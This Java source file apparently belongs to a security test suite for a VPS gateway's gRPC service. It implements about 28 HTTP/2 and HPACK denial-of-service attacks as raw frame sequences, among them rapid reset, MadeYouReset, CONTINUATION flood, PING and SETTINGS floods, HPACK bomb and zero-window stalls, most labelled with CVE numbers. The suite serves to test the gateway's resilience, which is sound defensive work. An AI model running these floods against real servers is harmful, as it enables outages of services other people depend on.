package cloud.obiente.vpsgateway.attack.port;

import static cloud.obiente.vpsgateway.attack.port.PortAttack.busy;
import static cloud.obiente.vpsgateway.attack.port.UnauthenticatedConnection.frame;
import static cloud.obiente.vpsgateway.attack.port.UnauthenticatedConnection.post;
import static cloud.obiente.vpsgateway.attack.port.UnauthenticatedConnection.together;

import cloud.obiente.vpsgateway.attack.port.PortAttack.Say;
import cloud.obiente.vpsgateway.lab.Http2Peer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.util.Map;
import java.util.stream.Stream;

/** Abuse of HTTP/2 (RFC 9113) and HPACK (RFC 7541) itself, whatever is spoken over it. */
final class Http2Attacks {
    private static final int END_STREAM = 1;
    private static final int END_HEADERS = 4;
    private static final int PRIORITY = 2;
    private static final int PUSH_PROMISE = 5;
    private static final int CONTINUATION = 9;
    private static final int UNKNOWN = 0xfa;
    private static final int BATCH = 64;
    private static final Map<String, String> GRPC = Map.of("content-type", "application/grpc", "te", "trailers");
    static final String LIST = "/obiente.cloud.vpsgateway.v1.VPSGatewayService/ListIPs";
    private static final byte[] CANCEL = {0, 0, 0, 8};
    private static final Say PREFACE = UnauthenticatedConnection::preface;

    private Http2Attacks() {}

    static Stream<PortAttack> all() {
        return Stream.of(
                busy("streams opened and reset at once (rapid reset)", "CVE-2023-44487", PREFACE, c -> {
                    int stream = c.newStream();
                    c.say(together(
                            post(END_HEADERS, stream, LIST, GRPC), frame(Http2Peer.RST_STREAM, 0, stream, CANCEL)));
                }),
                busy("streams that the server is made to reset (MadeYouReset)", "CVE-2025-8671", PREFACE, c -> {
                    int stream = c.newStream();
                    c.say(together(
                            post(END_HEADERS, stream, LIST, GRPC),
                            frame(Http2Peer.WINDOW_UPDATE, 0, stream, new byte[4])));
                }),
                busy("streams reset by a PRIORITY of a wrong length", "CVE-2025-8671", PREFACE, c -> {
                    int stream = c.newStream();
                    c.say(together(post(END_HEADERS, stream, LIST, GRPC), frame(PRIORITY, 0, stream, new byte[4])));
                }),
                busy("streams reset by DATA behind their end", "CVE-2025-8671", PREFACE, c -> {
                    int stream = c.newStream();
                    c.say(together(
                            post(END_HEADERS | END_STREAM, stream, LIST, GRPC),
                            frame(Http2Peer.DATA, 0, stream, new byte[1])));
                }),
                busy("window updates of zero", "CVE-2025-8671", PREFACE, c -> {
                    c.say(post(END_HEADERS, c.newStream(), LIST, GRPC));
                    c.say(many(frame(Http2Peer.WINDOW_UPDATE, 0, 1, new byte[4])));
                }),
                busy("window updates of one", "", PREFACE, many(Http2Peer.WINDOW_UPDATE, 0, new byte[] {0, 0, 0, 1})),
                busy(
                        "window updates beyond the largest window",
                        "",
                        PREFACE,
                        c -> c.say(frame(Http2Peer.WINDOW_UPDATE, 0, 0, new byte[] {0x7f, -1, -1, -1}))),
                busy("PINGs, their answers unread", "CVE-2019-9512", PREFACE, many(Http2Peer.PING, 0, new byte[8])),
                busy(
                        "SETTINGS, their answers unread",
                        "CVE-2019-9515",
                        PREFACE,
                        many(Http2Peer.SETTINGS, 0, new byte[0])),
                busy("SETTINGS that change the header table again and again", "CVE-2019-9515", PREFACE, c -> {
                    byte[] large = {0, 1, 0, 1, 0, 0};
                    byte[] none = {0, 1, 0, 0, 0, 0};
                    c.say(together(frame(Http2Peer.SETTINGS, 0, 0, large), frame(Http2Peer.SETTINGS, 0, 0, none)));
                }),
                busy("SETTINGS that change every stream's window", "CVE-2019-9515", PREFACE, c -> {
                    c.say(post(END_HEADERS, c.newStream(), LIST, GRPC));
                    byte[] one = {0, 4, 0, 0, 0, 1};
                    byte[] none = {0, 4, 0, 0, 0, 0};
                    c.say(together(frame(Http2Peer.SETTINGS, 0, 0, one), frame(Http2Peer.SETTINGS, 0, 0, none)));
                }),
                busy(
                        "HEADERS continued for ever (CONTINUATION flood)",
                        "CVE-2024-27316",
                        c -> {
                            c.preface();
                            c.say(frame(Http2Peer.HEADERS, 0, 1, Http2Peer.head("POST", LIST, Map.of())));
                        },
                        c -> c.say(frame(CONTINUATION, 0, 1, header("x", "y".repeat(100))))),
                busy(
                        "empty CONTINUATIONs",
                        "CVE-2024-27919",
                        c -> {
                            c.preface();
                            c.say(frame(Http2Peer.HEADERS, 0, 1, Http2Peer.head("POST", LIST, Map.of())));
                        },
                        c -> c.say(many(frame(CONTINUATION, 0, 1, new byte[0])))),
                busy(
                        "empty DATA frames",
                        "CVE-2019-9518",
                        c -> {
                            c.preface();
                            c.say(post(END_HEADERS, 1, LIST, GRPC));
                        },
                        many(Http2Peer.DATA, 1, new byte[0])),
                busy(
                        "DATA of one octet in frames padded to the full",
                        "",
                        c -> {
                            c.preface();
                            c.say(post(END_HEADERS, 1, LIST, GRPC));
                        },
                        c -> {
                            byte[] padded = new byte[257];
                            padded[0] = (byte) 255;
                            c.say(frame(Http2Peer.DATA, 8, 1, padded));
                        }),
                busy(
                        "headers without names (0-length headers leak)",
                        "CVE-2019-9516",
                        PREFACE,
                        c -> c.say(frame(Http2Peer.HEADERS, END_HEADERS, c.newStream(), new byte[300]))),
                busy(
                        "priorities that change without end",
                        "CVE-2019-9513",
                        PREFACE,
                        c -> c.say(many(frame(PRIORITY, 0, 1 + 2 * BATCH, new byte[] {0, 0, 0, 3, 1})))),
                busy(
                        "a large header, referred to again and again (HPACK bomb)",
                        "CVE-2016-6581",
                        c -> {
                            c.preface();
                            byte[] indexed = header("x-large", "y".repeat(120));
                            indexed[0] = 0x40;
                            c.say(frame(
                                    Http2Peer.HEADERS,
                                    END_HEADERS,
                                    c.newStream(),
                                    together(Http2Peer.head("POST", LIST, Map.of()), indexed)));
                        },
                        c -> {
                            byte[] references = new byte[8_000];
                            java.util.Arrays.fill(references, (byte) 0xbe);
                            c.say(frame(Http2Peer.HEADERS, END_HEADERS, c.newStream(), references));
                        }),
                busy("HPACK integers without end", "CVE-2022-41723", PREFACE, c -> {
                    byte[] endless = new byte[8_000];
                    java.util.Arrays.fill(endless, (byte) 0xff);
                    c.say(frame(Http2Peer.HEADERS, END_HEADERS, c.newStream(), endless));
                }),
                busy("HPACK table sizes that change in every block", "", PREFACE, c -> {
                    byte[] sizes = new byte[4_000];
                    java.util.Arrays.fill(sizes, (byte) 0x20);
                    c.say(frame(
                            Http2Peer.HEADERS,
                            END_HEADERS | END_STREAM,
                            c.newStream(),
                            together(sizes, Http2Peer.head("POST", LIST, Map.of()))));
                }),
                busy(
                        "answers that may not be sent (window of zero)",
                        "CVE-2019-9517",
                        c -> {
                            c.preface();
                            c.say(frame(Http2Peer.SETTINGS, 0, 0, new byte[] {0, 4, 0, 0, 0, 0}));
                        },
                        c -> c.say(post(
                                END_HEADERS | END_STREAM,
                                c.newStream(),
                                LIST,
                                Map.of("content-type", "application/json")))),
                busy(
                        "pushed streams from a client",
                        "",
                        PREFACE,
                        c -> c.say(frame(PUSH_PROMISE, END_HEADERS, 1, new byte[] {0, 0, 0, 2}))),
                busy("frames of no known type", "", PREFACE, many(UNKNOWN, 0, new byte[0])),
                busy("GOAWAY after GOAWAY", "", PREFACE, c -> c.say(many(frame(Http2Peer.GOAWAY, 0, 0, new byte[8])))),
                busy("a frame that never ends", "", PREFACE, c -> {
                    c.say(post(END_HEADERS, c.newStream(), LIST, GRPC));
                    c.say(ByteBuffer.allocate(9)
                            .putInt(0xffff00 << 8 >>> 8 << 8)
                            .array());
                    c.hear();
                }),
                busy("bodies that no call asks for", "", PREFACE, c -> {
                    int stream = c.newStream();
                    c.say(together(
                            post(END_HEADERS, stream, LIST, GRPC), frame(Http2Peer.DATA, 0, stream, new byte[16_000])));
                }),
                busy(
                        "HEADERS that are no request",
                        "",
                        PREFACE,
                        c -> c.say(frame(Http2Peer.HEADERS, END_HEADERS, c.newStream(), header("UPPER", "case")))),
                busy(
                        "stream numbers that go down",
                        "",
                        PREFACE,
                        c -> c.say(together(
                                post(END_HEADERS | END_STREAM, 1_001, LIST, GRPC),
                                post(END_HEADERS | END_STREAM, 3, LIST, GRPC)))));
    }

    private static Say many(int type, int stream, byte[] payload) {
        byte[] frames = many(frame(type, 0, stream, payload));
        return connection -> connection.say(frames);
    }

    private static byte[] many(byte[] frame) {
        ByteBuffer all = ByteBuffer.allocate(frame.length * BATCH);
        while (all.hasRemaining()) {
            all.put(frame);
        }
        return all.array();
    }

    private static byte[] header(String name, String value) throws IOException {
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        block.write(0);
        block.write(name.length());
        block.write(name.getBytes(java.nio.charset.StandardCharsets.US_ASCII));
        block.write(value.length());
        block.write(value.getBytes(java.nio.charset.StandardCharsets.US_ASCII));
        return block.toByteArray();
    }
}
